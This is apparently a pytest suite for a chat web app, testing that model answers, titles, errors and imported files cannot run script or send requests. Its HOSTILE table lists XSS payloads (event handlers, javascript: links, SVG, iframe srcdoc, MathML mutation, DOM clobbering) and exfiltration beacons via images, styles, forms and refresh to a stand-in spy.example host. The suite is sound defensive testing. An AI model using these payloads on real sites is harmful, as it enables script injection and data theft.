"""What a model writes can run nothing, fetch nothing and lead nowhere by itself."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.serve.page.standin import StandIn
from tests.serve.page.visit import Visit

TINY = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

HOSTILE = {
    "script": "<script>window.ran = 1</script>",
    "onerror": "<img src=x onerror='window.ran = 1'>",
    "inline html": "text <b onmouseover='window.ran = 1'>bold</b> <i onclick=window.ran=1>x</i>",
    "javascript link": "[click me](javascript:window.ran=1) and [me](JaVaScRiPt:window.ran=1)",
    "javascript link, encoded": "[click me](java&#x73;cript:window.ran=1) [me](\x01javascript:window.ran=1)",
    "autolink": "<javascript:window.ran=1>",
    "data link": "[click me](data:text/html,<script>opener.ran=1</script>)",
    "vbscript link": "[click me](vbscript:window.ran=1)",
    "svg": "<svg onload='window.ran=1'><animate onbegin='window.ran=1' attributeName=x></svg>",
    "svg picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "iframe": "<iframe src='javascript:parent.ran=1'></iframe>",
    "iframe with a document": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "remote picture": "![spy](https://spy.example/pixel.png?q=secret)",
    "remote picture by reference": "![spy][p]\n\n[p]: https://spy.example/pixel.png",
    "remote picture, html": "<img src='//spy.example/pixel.png' srcset='https://spy.example/2.png 2x'>",
    "own server": "![x](/v1/models?spy) ![x](v1/health)",
    "style": "<style>@import 'https://spy.example/a.css'; body { display: none }</style>",
    "style attribute": "<p style='background: url(https://spy.example/b.png); position: fixed'>x</p>",
    "refresh": "<meta http-equiv=refresh content='0; url=https://spy.example/'>",
    "base": "<base href='https://spy.example/'>",
    "form": "<form action='https://spy.example/'><input name=key><button>Send</button></form>",
    "clobbering": "<a id=prompt></a><img name=getElementById><form id=composer></form>",
    "object": "<object data='https://spy.example/x'></object><embed src='https://spy.example/x'>",
    "media": "<video src='https://spy.example/v' autoplay></video><audio src='https://spy.example/a'></audio>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=ran=1>'>",
    "template": "<template><script>window.ran=1</script></template><noscript><img src=x></noscript>",
    "code": "```html\n<img src=x onerror=window.ran=1>\n<script>window.ran=1</script>\n```",
    "language": '```js" onclick="window.ran=1\nx\n```\n\n```<img/src=x/onerror=window.ran=1>\nx\n```',
    "table": "| a |\n|---|\n| <img src=x onerror=window.ran=1> |",
    "title": "[a](https://spy.example 'x\" onmouseover=\"window.ran=1')",
    "details": "<details open ontoggle=window.ran=1><summary>x</summary>y</details>",
}

FORBIDDEN = (
    "script, iframe, object, embed, style, form, input, video, audio, meta, base, [id], [name], [style]"
)


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_runs_or_leaves(it: Visit, standin: StandIn, answer: str) -> None:
    # In pieces too: what is harmless when complete must not do harm while it comes.
    half = len(answer) // 2
    standin.say("Before.\n\n", answer[:half], answer[half:], "\n\nAfter.")
    before = it.page.url
    it.ask("Be evil")
    it.expect(it.prose).to_contain_text("Before.")
    it.expect(it.prose).to_contain_text("After.")
    asked = [path for path in standin.paths if "spy" in path or "health" in path or path == "/x"]
    assert not asked
    for link in it.prose.locator("a").all():
        link.hover()
        href = link.get_attribute("href")
        assert href is None or href.startswith("https://")
        if href is None:
            link.click()
    for element in it.prose.locator("b, i, p, summary, code").all():
        element.click(force=True)
    assert it.page.evaluate("window.ran") is None
    assert it.page.url.split("#")[0] == before.split("#")[0]
    assert not it.foreign_requests()
    assert len(it.context.pages) == 1
    assert it.prose.locator(FORBIDDEN).count() == 0
    attributes = "all => all.flatMap((element) => element.getAttributeNames())"
    assert not [name for name in it.prose.locator("*").evaluate_all(attributes) if name.startswith("on")]


def test_html_is_shown_as_it_was_written(it: Visit, standin: StandIn) -> None:
    standin.say("Use <div class='x'> here.\n\n<p>And a block</p>\n\nH<sub>2</sub>O<br>next")
    it.ask("HTML?")
    it.expect(it.prose).to_contain_text("Use <div class='x'> here.")
    it.expect(it.prose).to_contain_text("<p>And a block</p>")
    it.says(it.prose.locator("sub"), "2")


def test_links_open_elsewhere_and_tell_nothing(it: Visit, standin: StandIn) -> None:
    standin.say(
        "[docs](https://docs.example/a) ![a cat](https://pictures.example/cat.png) [bad](file:///etc/passwd)"
    )
    it.ask("Links?")
    links = it.prose.locator("a[href]")
    it.expect(links).to_have_text(["docs", "Picture: a cat"])
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())
    assert it.prose.locator("img").count() == 0


def test_a_picture_in_the_answer_itself_is_shown(it: Visit, standin: StandIn) -> None:
    standin.say(f"![dot]({TINY})")
    it.ask("A dot")
    it.expect(it.prose.locator("img")).to_have_attribute("src", TINY)


def test_the_page_forbids_what_the_filter_would_miss(it: Visit) -> None:
    """The policy is the last line: past the filter, a handler does not run and a picture is not fetched."""
    with pytest.raises(Exception, match="TrustedScript"):
        it.page.evaluate("() => { document.body.setAttribute('onclick', 'window.ran = 1'); }")
    blocked = it.page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective));
            const image = new Image();
            image.src = "https://spy.example/pixel.png";
            document.body.append(image);
        })"""
    )
    assert blocked == "img-src"
    assert it.page.evaluate("window.ran") is None
    with pytest.raises(Exception, match="TrustedHTML"):
        it.page.evaluate("() => { document.body.innerHTML = '<b>x</b>'; }")
    # Chromium tells of a request that its policy stopped as of any other.
    it.requests.clear()
    it.forgive("Content Security Policy", "This document requires")


def test_questions_titles_and_errors_are_text(it: Visit, standin: StandIn) -> None:
    evil = "<img src=x onerror=window.ran=1>"
    standin.refuse(400, evil, code=evil, param=evil)
    it.ask(evil)
    it.says(it.questions, evil)
    it.says(it.listed, evil)
    it.expect(it.page.get_by_role("alert")).to_contain_text(evil)
    assert it.page.locator("#main img, #sidebar img").count() == 0
    assert it.page.evaluate("window.ran") is None


def test_an_imported_file_is_as_little_trusted(it: Visit, tmp_path: Path) -> None:
    message = {"id": "m1", "parent": "root", "role": "assistant", "content": HOSTILE["onerror"]}
    conversation = {
        "id": "c1",
        "title": HOSTILE["script"],
        "model": HOSTILE["script"],
        "chosen": {"root": "m1", "__proto__": "x"},
        "messages": [message, {**message, "id": "m2", "parent": "m2"}],
    }
    file = tmp_path / "evil.json"
    content = {"format": "gemlet-conversations", "version": 1, "conversations": [conversation]}
    file.write_text(json.dumps(content))
    it.page.locator("#import-file").set_input_files(file)
    it.says(it.listed, HOSTILE["script"])
    it.listed.click()
    it.says(it.prose, HOSTILE["onerror"])
    assert it.page.evaluate("window.ran") is None
    content["conversations"] = [{**conversation, "id": 'x"] a'}]
    file.write_text(json.dumps(content))
    it.page.locator("#import-file").set_input_files(file)
    it.expect(it.page.locator("#toast")).to_contain_text("has no id")
